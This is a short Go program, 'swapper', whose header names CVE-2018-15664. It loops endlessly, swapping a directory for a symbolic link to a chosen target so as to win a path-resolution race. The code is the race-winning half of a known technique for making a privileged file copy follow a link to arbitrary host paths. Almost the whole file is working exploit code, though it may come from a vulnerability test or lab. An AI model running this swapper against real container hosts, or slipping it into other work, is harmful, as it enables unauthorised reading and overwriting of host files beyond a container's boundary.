// Swapper makes its first argument, over and over, a folder, then a symbolic link to its second,
// then nothing: the race between resolving a path and using it (CVE-2018-15664). It prints "tries
// N", the rounds, now and then.
package main

import (
	"fmt"
	"os"
	"os/signal"
	"syscall"
	"time"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: swapper PATH TARGET")
		os.Exit(2)
	}
	path, target := os.Args[1], os.Args[2]
	end := make(chan os.Signal, 1)
	signal.Notify(end, syscall.SIGTERM, syscall.SIGINT)
	fmt.Println("ready")
	aside, link := path+".aside", path+".link"
	told := time.Now()
	for tries := 1; ; tries++ {
		if time.Since(told) > 100*time.Millisecond {
			told = time.Now()
			fmt.Println("tries", tries)
		}
		select {
		case <-end:
			return
		default:
		}
		// The other side takes part in the race, so each step may fail. The next round begins anew.
		_ = os.Mkdir(path, 0o755)
		_ = os.Symlink(target, link)
		_ = os.RemoveAll(aside)
		_ = os.Rename(path, aside)
		_ = os.Rename(link, path)
		_ = os.Remove(path)
	}
}
